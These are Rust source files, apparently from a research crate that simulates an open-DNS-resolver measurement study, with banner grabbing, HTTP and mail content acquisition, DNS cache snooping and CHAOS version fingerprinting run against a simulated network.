            &TcpRequest::Http(HttpRequest::http(&ip.to_string())),
        );
        cov.retries += r;
        tally(&res);
        if let Ok(resp) = res {
            if let Some(http) = resp.as_http() {
                obs.http_body = Some(http.body.clone());
            }
        }
        cov.attempted += 1;
        if any_ok || any_refused {
            cov.answered += 1;
        } else if any_timeout {
            cov.gave_up += 1;
        } else {
            cov.unreachable += 1;
        }
        if obs.responsive() {
            out.insert(ip, obs);
        }
    }
    let reg = telemetry::global();
    let campaign = ("campaign", "banner");
    for (kind, n) in [
        ("refused", refused),
        ("unreachable", unreachable),
        ("timeout", timeout),
    ] {
        if n > 0 {
            reg.counter_with("scanner.tcp_errors", &[campaign, ("kind", kind)])
                .add(n);
        }
    }
    (out, cov)
}

/// Like [`banner_scan`], but also writes each TCP-responsive host into
/// `sink` with the [`scanstore::flags::TCP_RESPONSIVE`] flag and the
/// FNV-1a hash of its banner corpus.
pub fn banner_scan_with_sink(
    world: &mut World,
    resolvers: &[Ipv4Addr],
    policy: &ProbePolicy,
    sink: &mut dyn scanstore::ObservationSink,
) -> (HashMap<Ipv4Addr, BannerObservation>, Coverage) {
    use scanstore::{flags, fnv1a, Observation};
    let (observations, coverage) = banner_scan_ex(world, resolvers, policy);
    let now_ms = world.now().millis();
    for (&ip, obs) in &observations {
        sink.observe(Observation {
            flags: flags::TCP_RESPONSIVE,
            banner_hash: fnv1a(obs.corpus().as_bytes()),
            ..Observation::at(u32::from(ip), 0, now_ms)
        });
    }
    (observations, coverage)
}
