//! TCP banner grabbing for device fingerprinting (Sec. 2.4).
//!
//! The paper connects to FTP, HTTP, HTTPS, SSH and Telnet on every
//! resolver and aggregates whatever banner/text the services return;
//! 26.3% of resolvers answered on at least one port.

use netsim::{HttpRequest, TcpError, TcpRequest};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::net::Ipv4Addr;
use worldgen::World;

/// Ports probed, mirroring the paper's protocol list.
pub const PROBE_PORTS: [u16; 4] = [21, 22, 23, 80];

/// Banners collected from one host.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct BannerObservation {
    /// `(port, banner text)` for every responsive service.
    pub banners: Vec<(u16, String)>,
    /// Body of the HTTP front page, when port 80 served one.
    pub http_body: Option<String>,
}

impl BannerObservation {
    /// Whether any TCP service responded.
    pub fn responsive(&self) -> bool {
        !self.banners.is_empty() || self.http_body.is_some()
    }

    /// Concatenated text for regex fingerprinting.
    pub fn corpus(&self) -> String {
        let mut s = String::new();
        for (port, b) in &self.banners {
            s.push_str(&format!("[{port}] {b}\n"));
        }
        if let Some(body) = &self.http_body {
            s.push_str(body);
        }
        s
    }
}

/// Probe every resolver's TCP surface.
pub fn banner_scan(
    world: &mut World,
    resolvers: &[Ipv4Addr],
) -> HashMap<Ipv4Addr, BannerObservation> {
    let mut out = HashMap::with_capacity(resolvers.len());
    for &ip in resolvers {
        let mut obs = BannerObservation::default();
        for port in PROBE_PORTS {
            match world.net.tcp_query(ip, port, &TcpRequest::BannerProbe) {
                Ok(resp) => {
                    if let Some(b) = resp.as_banner() {
                        obs.banners.push((port, b.to_string()));
                    }
                }
                Err(TcpError::Refused) | Err(TcpError::Unreachable) | Err(TcpError::Timeout) => {}
            }
        }
        // HTTP body often carries the device identity (login pages).
        if let Ok(resp) = world.net.tcp_query(
            ip,
            80,
            &TcpRequest::Http(HttpRequest::http(&ip.to_string())),
        ) {
            if let Some(http) = resp.as_http() {
                obs.http_body = Some(http.body.clone());
            }
        }
        if obs.responsive() {
            out.insert(ip, obs);
        }
    }
    out
}

/// Like [`banner_scan`], but also writes each TCP-responsive host into
/// `sink` with the [`scanstore::flags::TCP_RESPONSIVE`] flag and the
/// FNV-1a hash of its banner corpus.
pub fn banner_scan_with_sink(
    world: &mut World,
    resolvers: &[Ipv4Addr],
    sink: &mut dyn scanstore::ObservationSink,
) -> HashMap<Ipv4Addr, BannerObservation> {
    use scanstore::{flags, fnv1a, Observation};
    let observations = banner_scan(world, resolvers);
    let now_ms = world.now().millis();
    for (&ip, obs) in &observations {
        sink.observe(Observation {
            flags: flags::TCP_RESPONSIVE,
            banner_hash: fnv1a(obs.corpus().as_bytes()),
            ..Observation::at(u32::from(ip), 0, now_ms)
        });
    }
    observations
}
