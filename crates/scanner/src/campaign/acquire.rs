//! HTTP(S) and mail data acquisition (Sec. 3.5).
//!
//! For every unexpected `(domain ∘ ip ∘ resolver)` tuple, fetch what a
//! client would see: HTTP and HTTPS content with the domain in the Host
//! header (SNI on and off), following up to two redirects — re-resolving
//! redirect targets *at the same resolver* — and, for MX hostnames,
//! IMAP/POP3/SMTP greeting banners.

use crate::probe::{tcp_query_with_retry, ProbePolicy};
use dnswire::{Message, MessageBuilder, Name, Rcode, RecordType};
use netsim::{Datagram, HttpRequest, MailProto, SimTime, TcpRequest, TlsCertificate};
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;
use worldgen::World;

/// Maximum redirect/frame hops followed (Sec. 3.5: "two times at most").
pub const MAX_REDIRECTS: u8 = 2;

/// A fetched page after redirect-following.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FetchedPage {
    /// Final HTTP status.
    pub status: u16,
    /// Final response body.
    pub body: String,
    /// Certificate observed on the TLS handshake (TLS fetches only).
    #[serde(skip)]
    pub certificate: Option<TlsCertificate>,
    /// Number of redirects followed.
    pub redirects: u8,
    /// Host header of the final request.
    pub final_host: String,
    /// IP the final request was sent to.
    pub final_ip: Ipv4Addr,
}

/// Everything acquired for one tuple.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Acquired {
    /// Plain-HTTP fetch result.
    pub http: Option<FetchedPage>,
    /// HTTPS fetch with SNI.
    pub https_sni: Option<FetchedPage>,
    /// HTTPS fetch without SNI (default certificate).
    pub https_nosni: Option<FetchedPage>,
    /// `(protocol name, banner)` for responsive mail services.
    pub mail_banners: Vec<(String, String)>,
}

impl Acquired {
    /// Whether any HTTP(S) payload was obtained (88.9% of tuples in the
    /// paper).
    pub fn has_http(&self) -> bool {
        self.http.is_some() || self.https_sni.is_some() || self.https_nosni.is_some()
    }
}

/// Resolve `domain` by querying the resolver at `resolver_ip` directly —
/// used when redirects introduce new domains (Sec. 3.5).
pub fn resolve_at(
    world: &mut World,
    vantage: Ipv4Addr,
    resolver_ip: Ipv4Addr,
    domain: &str,
) -> Option<(Rcode, Vec<Ipv4Addr>)> {
    let name = Name::parse(domain).ok()?;
    let txid = (u32::from(resolver_ip) as u16) ^ (domain.len() as u16) ^ 0x7A7A;
    let sock = world.net.open_socket(vantage, 39_990);
    let q = MessageBuilder::query(txid, name, RecordType::A).build();
    world
        .net
        .send_udp(Datagram::new(vantage, 39_990, resolver_ip, 53, q.encode()));
    let deadline = SimTime(world.net.now().millis() + 3_000);
    world.net.run_until(deadline);
    while let Some((_, d)) = world.net.recv(sock) {
        if let Ok(msg) = Message::decode(&d.payload) {
            if msg.header.response && msg.header.id == txid {
                return Some((msg.header.rcode, msg.answer_ips()));
            }
        }
    }
    None
}

/// Parse an absolute `http(s)://host/path` URL into `(tls, host, path)`.
fn parse_url(url: &str) -> Option<(bool, String, String)> {
    let (tls, rest) = if let Some(r) = url.strip_prefix("https://") {
        (true, r)
    } else if let Some(r) = url.strip_prefix("http://") {
        (false, r)
    } else {
        return None;
    };
    let (host, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    if host.is_empty() {
        return None;
    }
    Some((tls, host.to_ascii_lowercase(), path.to_string()))
}

/// One HTTP(S) fetch chain with redirect following.
#[allow(clippy::too_many_arguments)]
fn fetch_chain(
    world: &mut World,
    vantage: Ipv4Addr,
    resolver_ip: Ipv4Addr,
    mut host: String,
    mut ip: Ipv4Addr,
    tls: bool,
    sni: bool,
    policy: &ProbePolicy,
) -> Option<FetchedPage> {
    let mut path = "/".to_string();
    let mut redirects = 0u8;
    loop {
        let req = HttpRequest {
            host: host.clone(),
            path: path.clone(),
            tls,
            sni: if tls && sni { Some(host.clone()) } else { None },
        };
        let port = if tls { 443 } else { 80 };
        // Browsers retry transient timeouts; so do we, through the
        // shared probe engine (backed-off, time-advancing attempts —
        // a same-instant TCP retry would deterministically repeat the
        // first outcome).
        let (res, _retries) = tcp_query_with_retry(
            &mut world.net,
            policy,
            "acquire",
            ip,
            port,
            &TcpRequest::Http(req.clone()),
        );
        let resp = res.ok()?;
        let http = resp.as_http()?.clone();
        if let (true, Some(location)) = (http.status / 100 == 3, http.location.as_ref()) {
            if redirects >= MAX_REDIRECTS {
                return Some(FetchedPage {
                    status: http.status,
                    body: http.body,
                    certificate: http.certificate,
                    redirects,
                    final_host: host,
                    final_ip: ip,
                });
            }
            redirects += 1;
            if let Some((next_tls, next_host, next_path)) = parse_url(location) {
                if next_host != host {
                    // New domain: resolve it at the same resolver.
                    let (rcode, ips) = resolve_at(world, vantage, resolver_ip, &next_host)?;
                    if rcode != Rcode::NoError || ips.is_empty() {
                        return None;
                    }
                    ip = ips[0];
                    host = next_host;
                }
                path = next_path;
                if next_tls != tls {
                    // Scheme switches are treated as chain end: the
                    // variant fetches are per-scheme.
                    return Some(FetchedPage {
                        status: http.status,
                        body: http.body,
                        certificate: http.certificate,
                        redirects,
                        final_host: host,
                        final_ip: ip,
                    });
                }
                continue;
            }
            // Relative redirect: same host.
            path = location.clone();
            continue;
        }
        return Some(FetchedPage {
            status: http.status,
            body: http.body,
            certificate: http.certificate,
            redirects,
            final_host: host,
            final_ip: ip,
        });
    }
}

/// Acquire content for one `(domain ∘ ip ∘ resolver)` tuple.
pub fn acquire(
    world: &mut World,
    vantage: Ipv4Addr,
    resolver_ip: Ipv4Addr,
    domain: &str,
    ip: Ipv4Addr,
    is_mail_host: bool,
) -> Acquired {
    acquire_with_policy(
        world,
        vantage,
        resolver_ip,
        domain,
        ip,
        is_mail_host,
        &ProbePolicy::single(),
    )
}

/// [`acquire`] under an explicit [`ProbePolicy`] for its TCP fetches.
/// A single-attempt policy is byte-identical to [`acquire`].
#[allow(clippy::too_many_arguments)]
pub fn acquire_with_policy(
    world: &mut World,
    vantage: Ipv4Addr,
    resolver_ip: Ipv4Addr,
    domain: &str,
    ip: Ipv4Addr,
    is_mail_host: bool,
    policy: &ProbePolicy,
) -> Acquired {
    let mut out = Acquired {
        http: fetch_chain(
            world,
            vantage,
            resolver_ip,
            domain.to_string(),
            ip,
            false,
            false,
            policy,
        ),
        https_sni: fetch_chain(
            world,
            vantage,
            resolver_ip,
            domain.to_string(),
            ip,
            true,
            true,
            policy,
        ),
        https_nosni: fetch_chain(
            world,
            vantage,
            resolver_ip,
            domain.to_string(),
            ip,
            true,
            false,
            policy,
        ),
        mail_banners: Vec::new(),
    };
    if is_mail_host {
        for proto in [MailProto::Smtp, MailProto::Imap, MailProto::Pop3] {
            if let Ok(resp) = world
                .net
                .tcp_query(ip, proto.port(), &TcpRequest::MailProbe(proto))
            {
                if let Some(b) = resp.as_banner() {
                    let name = match proto {
                        MailProto::Smtp => "smtp",
                        MailProto::Imap => "imap",
                        MailProto::Pop3 => "pop3",
                    };
                    out.mail_banners.push((name.to_string(), b.to_string()));
                }
            }
        }
    }
    out
}

/// Acquire the ground-truth representation of `domain` via a *trusted*
/// resolution (our own recursive resolution through the universe).
pub fn acquire_trusted(world: &mut World, vantage: Ipv4Addr, domain: &str) -> Option<Acquired> {
    use resolversim::Resolution;
    let region = geodb::Rir::Arin; // the measurement host's region
    let res = world.universe.resolve(domain, region, 0);
    let Resolution::Ips { ips, .. } = res else {
        return None;
    };
    let ip = *ips.first()?;
    let is_mail = world
        .universe
        .record(domain)
        .map(|r| r.is_mail_host)
        .unwrap_or(false);
    // Trusted acquisition does not depend on any open resolver; pass the
    // authoritative answer's own address for redirect re-resolution.
    Some(acquire(world, vantage, ip, domain, ip, is_mail))
}
