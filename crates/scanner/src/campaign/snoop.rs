//! DNS cache snooping (Sec. 2.6): non-recursive NS queries for 15 TLDs,
//! every 60 minutes for 36 hours.

use crate::probe::{ProbePolicy, RttEstimator};
use crate::simio::SimScanner;
use dnswire::{Message, MessageBuilder, Name, RecordType};
use netsim::SimTime;
use scanstore::{Observation, SnapshotSink, SnapshotSource};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::io;
use std::net::Ipv4Addr;
use worldgen::World;

/// One observation of one TLD's cache state at one resolver.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum SnoopSample {
    /// NS record present with this remaining TTL.
    Ttl(u32),
    /// NOERROR but no NS record — not cached (or an empty responder).
    NoEntry,
    /// No response.
    Silent,
}

/// Full snooping series for one resolver: `series[tld][round]`.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SnoopResult {
    /// Number of snooped TLDs.
    pub tld_count: usize,
    /// Number of hourly rounds.
    pub rounds: usize,
    /// Flattened `[tld * rounds + round]`.
    pub samples: Vec<SnoopSample>,
}

impl SnoopResult {
    /// The sample for `(tld, round)`.
    pub fn get(&self, tld: usize, round: usize) -> SnoopSample {
        self.samples[tld * self.rounds + round]
    }

    /// Series for one TLD.
    pub fn tld_series(&self, tld: usize) -> &[SnoopSample] {
        &self.samples[tld * self.rounds..(tld + 1) * self.rounds]
    }
}

/// Run the snooping campaign against `resolvers`. Advances world time by
/// `rounds` hours. Queries are sent with RD=0.
pub fn snoop_scan(
    world: &mut World,
    vantage: Ipv4Addr,
    resolvers: &[Ipv4Addr],
    rounds: usize,
    seed: u64,
) -> HashMap<Ipv4Addr, SnoopResult> {
    snoop_scan_with_policy(
        world,
        vantage,
        resolvers,
        rounds,
        seed,
        &ProbePolicy::single(),
    )
    .0
}

/// [`snoop_scan`] under an explicit [`ProbePolicy`]: within each hourly
/// round, (resolver, TLD) slots still Silent after the native sweep are
/// retransmitted in backed-off rounds before the hour closes. Returns
/// the series and the number of retransmissions. A single-attempt
/// policy is byte-identical to [`snoop_scan`].
pub fn snoop_scan_with_policy(
    world: &mut World,
    vantage: Ipv4Addr,
    resolvers: &[Ipv4Addr],
    rounds: usize,
    seed: u64,
    policy: &ProbePolicy,
) -> (HashMap<Ipv4Addr, SnoopResult>, u64) {
    let tld_names: Vec<Name> = world
        .universe
        .tlds()
        .iter()
        .map(|t| Name::parse(&t.name).expect("TLD names parse"))
        .collect();
    let tld_count = tld_names.len();

    let mut results: HashMap<Ipv4Addr, SnoopResult> = resolvers
        .iter()
        .map(|&ip| {
            (
                ip,
                SnoopResult {
                    tld_count,
                    rounds,
                    samples: vec![SnoopSample::Silent; tld_count * rounds],
                },
            )
        })
        .collect();

    let start = world.now();
    let mut retries = 0u64;
    for round in 0..rounds {
        world.advance_to(SimTime(start.millis() + round as u64 * SimTime::HOUR));
        let scanner = SimScanner::open(world, vantage);
        // txid → (resolver, tld).
        let mut txid_map: HashMap<u16, (Ipv4Addr, usize)> = HashMap::new();
        let mut seq = 0u32;
        for &ip in resolvers {
            for (ti, tld) in tld_names.iter().enumerate() {
                let txid = (seed as u16)
                    .wrapping_add(seq as u16)
                    .wrapping_add((round as u16) << 3);
                let msg = MessageBuilder::query(txid, tld.clone(), RecordType::Ns)
                    .recursion_desired(false)
                    .build();
                txid_map.insert(txid, (ip, ti));
                scanner.send(world, (seq % 509) as u16, ip, msg.encode());
                seq += 1;
                if seq.is_multiple_of(2_000) {
                    scanner.pump(world, 300);
                    collect(world, &scanner, &txid_map, &mut results, round);
                }
                if seq.is_multiple_of(60_000) {
                    scanner.pump(world, 5_000);
                    collect(world, &scanner, &txid_map, &mut results, round);
                    txid_map.clear();
                }
            }
        }
        scanner.pump(world, 5_000);
        collect(world, &scanner, &txid_map, &mut results, round);

        // Retransmission rounds: resend the (resolver, TLD) slots that
        // stayed Silent, still inside this round's hour so the cache
        // state being snooped is the same. With `attempts == 1` this
        // loop never runs and the campaign is byte-identical.
        if policy.attempts > 1 {
            let est = RttEstimator::new();
            let schedule = policy.schedule(seed ^ 0x5_0090 ^ (round as u64) << 20);
            txid_map.clear();
            for retry in 0..(policy.attempts - 1) as usize {
                let mut missing: Vec<(Ipv4Addr, usize)> = Vec::new();
                for &ip in resolvers {
                    for ti in 0..tld_count {
                        if results[&ip].get(ti, round) == SnoopSample::Silent {
                            missing.push((ip, ti));
                        }
                    }
                }
                if missing.is_empty() {
                    break;
                }
                for &(ip, ti) in &missing {
                    let txid = (seed as u16)
                        .wrapping_add(seq as u16)
                        .wrapping_add((round as u16) << 3);
                    let msg = MessageBuilder::query(txid, tld_names[ti].clone(), RecordType::Ns)
                        .recursion_desired(false)
                        .build();
                    txid_map.insert(txid, (ip, ti));
                    scanner.send(world, (seq % 509) as u16, ip, msg.encode());
                    seq += 1;
                    if seq.is_multiple_of(2_000) {
                        scanner.pump(world, 300);
                        collect(world, &scanner, &txid_map, &mut results, round);
                    }
                }
                retries += missing.len() as u64;
                scanner.pump(world, policy.wait_ms(retry, &schedule, &est));
                collect(world, &scanner, &txid_map, &mut results, round);
                txid_map.clear();
            }
        }
        scanner.close(world);
    }
    if retries > 0 {
        telemetry::global()
            .counter_with("scanner.retries", &[("campaign", "snoop")])
            .add(retries);
    }
    (results, retries)
}

/// Meta keys carried by the snooping campaign's `sample` snapshot.
pub const SNOOP_META_ROUNDS: &str = "rounds";
/// Number of snooped TLDs (`sample` snapshot meta).
pub const SNOOP_META_TLDS: &str = "tld_count";
/// Comma-joined authoritative TTL per TLD (`sample` snapshot meta).
pub const SNOOP_META_FULL_TTLS: &str = "full_ttls";

/// Encodes one sample into an [`Observation::value`] payload: tag bits
/// in the low two bits (`1` = NoEntry, `2` = Ttl with the TTL shifted
/// above the tag). Silent samples encode to `0` and are simply not
/// written — absence from a round's snapshot *is* the Silent encoding.
pub fn encode_snoop_sample(sample: SnoopSample) -> u64 {
    match sample {
        SnoopSample::Silent => 0,
        SnoopSample::NoEntry => 1,
        SnoopSample::Ttl(t) => 2 | (u64::from(t) << 2),
    }
}

/// Decodes an [`Observation::value`] written by [`encode_snoop_sample`].
pub fn decode_snoop_sample(value: u64) -> SnoopSample {
    match value & 0b11 {
        1 => SnoopSample::NoEntry,
        2 => SnoopSample::Ttl((value >> 2) as u32),
        _ => SnoopSample::Silent,
    }
}

/// Runs [`snoop_scan`] and commits the full series to `sink`:
/// snapshot 0 (`sample`) lists every probed resolver and carries the
/// campaign geometry in meta (rounds, TLD count, authoritative TTLs);
/// snapshot `1 + round * tld_count + tld` (`snoop-r{round}-t{tld}`)
/// holds one record per resolver whose sample for that (round, TLD)
/// was not Silent, encoded in [`Observation::value`]. Returns the
/// series and the number of retransmissions sent under `policy`.
pub fn snoop_scan_with_sink(
    world: &mut World,
    vantage: Ipv4Addr,
    resolvers: &[Ipv4Addr],
    rounds: usize,
    seed: u64,
    policy: &ProbePolicy,
    sink: &mut dyn SnapshotSink,
) -> io::Result<(HashMap<Ipv4Addr, SnoopResult>, u64)> {
    let mut sp = telemetry::span("campaign.snoop", world.now().millis());
    sp.attr("sample", resolvers.len());
    sp.attr("rounds", rounds);
    let (results, retries) =
        snoop_scan_with_policy(world, vantage, resolvers, rounds, seed, policy);
    sp.attr("retries", retries);
    let now_ms = world.now().millis();
    let tlds = world.universe.tlds();
    let tld_count = tlds.len();
    let full_ttls: Vec<String> = tlds.iter().map(|t| t.ttl.to_string()).collect();
    let meta = vec![
        (SNOOP_META_ROUNDS.to_string(), rounds.to_string()),
        (SNOOP_META_TLDS.to_string(), tld_count.to_string()),
        (SNOOP_META_FULL_TTLS.to_string(), full_ttls.join(",")),
    ];
    for &ip in resolvers {
        sink.observe(Observation::at(u32::from(ip), 0, now_ms));
    }
    sink.commit("sample", now_ms, &meta)?;
    for round in 0..rounds {
        for tld in 0..tld_count {
            for &ip in resolvers {
                let sample = results[&ip].get(tld, round);
                if sample != SnoopSample::Silent {
                    let mut obs = Observation::at(u32::from(ip), 0, now_ms);
                    obs.value = encode_snoop_sample(sample);
                    sink.observe(obs);
                }
            }
            sink.commit(&format!("snoop-r{round}-t{tld}"), now_ms, &[])?;
        }
    }
    sp.finish(world.now().millis());
    Ok((results, retries))
}

/// Rebuilds the per-resolver snooping series out of a committed store.
/// Inverse of [`snoop_scan_with_sink`]: resolvers absent from a round's
/// snapshot get [`SnoopSample::Silent`] for that (round, TLD).
pub fn snoop_from_source(src: &dyn SnapshotSource) -> io::Result<HashMap<Ipv4Addr, SnoopResult>> {
    let sample = src.snapshot(0)?;
    let geom = |key: &str| -> io::Result<usize> {
        sample
            .meta_value(key)
            .and_then(|v| v.parse().ok())
            .ok_or_else(|| {
                io::Error::new(
                    io::ErrorKind::InvalidData,
                    format!("snoop store missing {key} meta"),
                )
            })
    };
    let rounds = geom(SNOOP_META_ROUNDS)?;
    let tld_count = geom(SNOOP_META_TLDS)?;
    let mut results: HashMap<Ipv4Addr, SnoopResult> = sample
        .records
        .iter()
        .map(|o| {
            (
                o.ipv4(),
                SnoopResult {
                    tld_count,
                    rounds,
                    samples: vec![SnoopSample::Silent; tld_count * rounds],
                },
            )
        })
        .collect();
    src.for_each_snapshot(&mut |snap| {
        if snap.seq == 0 {
            return Ok(());
        }
        let k = (snap.seq - 1) as usize;
        let (round, tld) = (k / tld_count, k % tld_count);
        for o in &snap.records {
            if let Some(res) = results.get_mut(&o.ipv4()) {
                res.samples[tld * rounds + round] = decode_snoop_sample(o.value);
            }
        }
        Ok(())
    })?;
    Ok(results)
}

/// The authoritative TTL per TLD recorded at collection time
/// (`full_ttls` meta on the `sample` snapshot).
pub fn snoop_full_ttls_from_source(src: &dyn SnapshotSource) -> io::Result<Vec<u32>> {
    let sample = src.snapshot(0)?;
    let raw = sample.meta_value(SNOOP_META_FULL_TTLS).ok_or_else(|| {
        io::Error::new(
            io::ErrorKind::InvalidData,
            "snoop store missing full_ttls meta",
        )
    })?;
    raw.split(',')
        .map(|s| {
            s.parse()
                .map_err(|_| io::Error::new(io::ErrorKind::InvalidData, "bad full_ttls meta entry"))
        })
        .collect()
}

fn collect(
    world: &mut World,
    scanner: &SimScanner,
    txid_map: &HashMap<u16, (Ipv4Addr, usize)>,
    results: &mut HashMap<Ipv4Addr, SnoopResult>,
    round: usize,
) {
    for (_o, _t, d) in scanner.drain(world) {
        let Ok(msg) = Message::decode(&d.payload) else {
            continue;
        };
        if !msg.header.response {
            continue;
        }
        let Some(&(ip, tld)) = txid_map.get(&msg.header.id) else {
            continue;
        };
        let sample = msg
            .answers
            .iter()
            .find(|rr| rr.rtype == RecordType::Ns)
            .map(|rr| SnoopSample::Ttl(rr.ttl))
            .unwrap_or(SnoopSample::NoEntry);
        if let Some(res) = results.get_mut(&ip) {
            let idx = tld * res.rounds + round;
            if res.samples[idx] == SnoopSample::Silent {
                res.samples[idx] = sample;
            }
        }
    }
}
