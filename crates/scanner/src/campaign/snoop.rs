//! DNS cache snooping (Sec. 2.6): non-recursive NS queries for 15 TLDs,
//! every 60 minutes for 36 hours.

use crate::simio::SimScanner;
use dnswire::{Message, MessageBuilder, Name, RecordType};
use netsim::SimTime;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::net::Ipv4Addr;
use worldgen::World;

/// One observation of one TLD's cache state at one resolver.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum SnoopSample {
    /// NS record present with this remaining TTL.
    Ttl(u32),
    /// NOERROR but no NS record — not cached (or an empty responder).
    NoEntry,
    /// No response.
    Silent,
}

/// Full snooping series for one resolver: `series[tld][round]`.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SnoopResult {
    /// Number of snooped TLDs.
    pub tld_count: usize,
    /// Number of hourly rounds.
    pub rounds: usize,
    /// Flattened `[tld * rounds + round]`.
    pub samples: Vec<SnoopSample>,
}

impl SnoopResult {
    /// The sample for `(tld, round)`.
    pub fn get(&self, tld: usize, round: usize) -> SnoopSample {
        self.samples[tld * self.rounds + round]
    }

    /// Series for one TLD.
    pub fn tld_series(&self, tld: usize) -> &[SnoopSample] {
        &self.samples[tld * self.rounds..(tld + 1) * self.rounds]
    }
}

/// Run the snooping campaign against `resolvers`. Advances world time by
/// `rounds` hours. Queries are sent with RD=0.
pub fn snoop_scan(
    world: &mut World,
    vantage: Ipv4Addr,
    resolvers: &[Ipv4Addr],
    rounds: usize,
    seed: u64,
) -> HashMap<Ipv4Addr, SnoopResult> {
    let tld_names: Vec<Name> = world
        .universe
        .tlds()
        .iter()
        .map(|t| Name::parse(&t.name).expect("TLD names parse"))
        .collect();
    let tld_count = tld_names.len();

    let mut results: HashMap<Ipv4Addr, SnoopResult> = resolvers
        .iter()
        .map(|&ip| {
            (
                ip,
                SnoopResult {
                    tld_count,
                    rounds,
                    samples: vec![SnoopSample::Silent; tld_count * rounds],
                },
            )
        })
        .collect();

    let start = world.now();
    for round in 0..rounds {
        world.advance_to(SimTime(start.millis() + round as u64 * SimTime::HOUR));
        let scanner = SimScanner::open(world, vantage);
        // txid → (resolver, tld).
        let mut txid_map: HashMap<u16, (Ipv4Addr, usize)> = HashMap::new();
        let mut seq = 0u32;
        for &ip in resolvers {
            for (ti, tld) in tld_names.iter().enumerate() {
                let txid = (seed as u16)
                    .wrapping_add(seq as u16)
                    .wrapping_add((round as u16) << 3);
                let msg = MessageBuilder::query(txid, tld.clone(), RecordType::Ns)
                    .recursion_desired(false)
                    .build();
                txid_map.insert(txid, (ip, ti));
                scanner.send(world, (seq % 509) as u16, ip, msg.encode());
                seq += 1;
                if seq.is_multiple_of(2_000) {
                    scanner.pump(world, 300);
                    collect(world, &scanner, &txid_map, &mut results, round);
                }
                if seq.is_multiple_of(60_000) {
                    scanner.pump(world, 5_000);
                    collect(world, &scanner, &txid_map, &mut results, round);
                    txid_map.clear();
                }
            }
        }
        scanner.pump(world, 5_000);
        collect(world, &scanner, &txid_map, &mut results, round);
        scanner.close(world);
    }
    results
}

fn collect(
    world: &mut World,
    scanner: &SimScanner,
    txid_map: &HashMap<u16, (Ipv4Addr, usize)>,
    results: &mut HashMap<Ipv4Addr, SnoopResult>,
    round: usize,
) {
    for (_o, _t, d) in scanner.drain(world) {
        let Ok(msg) = Message::decode(&d.payload) else {
            continue;
        };
        if !msg.header.response {
            continue;
        }
        let Some(&(ip, tld)) = txid_map.get(&msg.header.id) else {
            continue;
        };
        let sample = msg
            .answers
            .iter()
            .find(|rr| rr.rtype == RecordType::Ns)
            .map(|rr| SnoopSample::Ttl(rr.ttl))
            .unwrap_or(SnoopSample::NoEntry);
        if let Some(res) = results.get_mut(&ip) {
            let idx = tld * res.rounds + round;
            if res.samples[idx] == SnoopSample::Silent {
                res.samples[idx] = sample;
            }
        }
    }
}
