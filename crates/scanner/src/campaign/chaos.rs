//! CHAOS `version.bind` / `version.server` fingerprinting (Sec. 2.4).

use crate::probe::{ProbePolicy, RttEstimator};
use crate::simio::SimScanner;
use dnswire::{Message, MessageBuilder, Name, Rcode};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::net::Ipv4Addr;
use worldgen::World;

/// Outcome of the two CHAOS queries against one resolver.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum ChaosObservation {
    /// Both queries errored (REFUSED / SERVFAIL).
    Errors,
    /// NOERROR but no version in either answer.
    EmptyAnswers,
    /// A version string was returned (may be an admin-chosen decoy —
    /// the classifier decides).
    Version(String),
    /// No response to either query.
    Silent,
}

/// Query `version.bind` and `version.server` at every resolver.
pub fn chaos_scan(
    world: &mut World,
    vantage: Ipv4Addr,
    resolvers: &[Ipv4Addr],
    seed: u64,
) -> HashMap<Ipv4Addr, ChaosObservation> {
    chaos_scan_with_policy(world, vantage, resolvers, seed, &ProbePolicy::single()).0
}

/// [`chaos_scan`] under an explicit [`ProbePolicy`]: after the native
/// sweep, unanswered query slots are retransmitted in backed-off
/// rounds. A single-attempt policy is byte-identical to [`chaos_scan`].
/// Also returns the number of retransmitted query slots.
pub fn chaos_scan_with_policy(
    world: &mut World,
    vantage: Ipv4Addr,
    resolvers: &[Ipv4Addr],
    seed: u64,
    policy: &ProbePolicy,
) -> (HashMap<Ipv4Addr, ChaosObservation>, u64) {
    let asn_of = super::churn::recorder_asn_map(world, resolvers);
    let scanner = SimScanner::open(world, vantage);
    let mut sp = telemetry::span("campaign.chaos", world.now().millis());
    telemetry::recorder::set_context("chaos", 1);
    // txid → (resolver, which query).
    let mut results: HashMap<Ipv4Addr, Vec<Option<Message>>> = HashMap::new();
    let mut txid_map: HashMap<u16, (Ipv4Addr, usize)> = HashMap::new();

    const BATCH: usize = 2_000;
    let qnames = [
        Name::parse("version.bind").unwrap(),
        Name::parse("version.server").unwrap(),
    ];
    let mut seq = 0u32;
    let mut pending = 0usize;
    for &ip in resolvers {
        results.insert(ip, vec![None, None]);
        for (which, qname) in qnames.iter().enumerate() {
            // Transaction IDs must be unique among in-flight queries;
            // the map is flushed before the 16-bit space wraps.
            let txid = (seed as u16).wrapping_add(seq as u16);
            let msg = MessageBuilder::chaos_query(txid, qname.clone()).build();
            txid_map.insert(txid, (ip, which));
            if let Some(asns) = &asn_of {
                let asn = asns.get(&ip).copied().unwrap_or(0);
                telemetry::recorder::attempt(u32::from(ip), asn, world.now().millis());
            }
            scanner.send(world, (seq % 509) as u16, ip, msg.encode());
            seq += 1;
            pending += 1;
            if pending == BATCH {
                pending = 0;
                scanner.pump(world, 400);
                collect(world, &scanner, &mut txid_map, &mut results, None);
            }
            if seq.is_multiple_of(60_000) {
                // Long grace, then recycle the TXID space.
                scanner.pump(world, 5_000);
                collect(world, &scanner, &mut txid_map, &mut results, None);
                txid_map.clear();
            }
        }
    }
    scanner.pump(world, 5_000);
    collect(world, &scanner, &mut txid_map, &mut results, None);

    // Retransmission rounds: resend whatever query slots are still
